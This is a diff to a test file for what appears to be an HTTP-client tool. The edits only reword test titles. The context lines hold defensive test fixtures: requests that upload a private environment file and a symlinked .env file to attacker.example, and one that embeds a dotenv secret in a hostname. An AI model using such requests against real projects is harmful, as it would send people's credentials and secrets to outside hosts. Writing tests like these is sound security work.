@@ -84,7 +84,7 @@ describe('a private value on the command line', () => {
     expect(error).toContain(`unverified before; if that is meant, ${step}`);
   });
 
-  it('is not shown where it stands in a host', async () => {
+  it('is not shown where it is in a host', async () => {
     const proxy = await startListener((url) => JSON.stringify({ url }));
     const cwd = folderOf({ '.env': 'S=Canary4713\n', 'a.http': 'GET http://{{$dotenv S}}.x.example/a\n' });
     const env = { http_proxy: proxy.url };
@@ -114,7 +114,7 @@ describe('a private value on the command line', () => {
       'POST http://attacker.example/\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="f"; filename="f"\n\n< ./http-client.private.env.json\n--b--',
     ],
     ['.env behind a link', 'POST http://attacker.example/\nContent-Type: text/plain\n\n< ./note.txt'],
-  ])('of the folder does not go to a host that nobody named: %s', async (_, request) => {
+  ])('of the folder does not go to a host that no one named: %s', async (_, request) => {
     const proxy = await startListener();
     const cwd = folderOf({ ...files, 'a.http': `${request}\n` });
     symlinkSync('.env', join(cwd, 'note.txt'));
@@ -129,7 +129,7 @@ describe('a private value on the command line', () => {
     expect(proxy.received.join()).toContain(canary);
   });
 
-  it('is never one that an answer names', async () => {
+  it('is never one that a response names', async () => {
     const answer = JSON.stringify({ id: '{{$processEnv OTHER}}', url: '{{$dotenv S}}' });
     const { url, received } = await startListener((path) => (path === '/login' ? answer : '{}'));
     const cwd = folderOf({
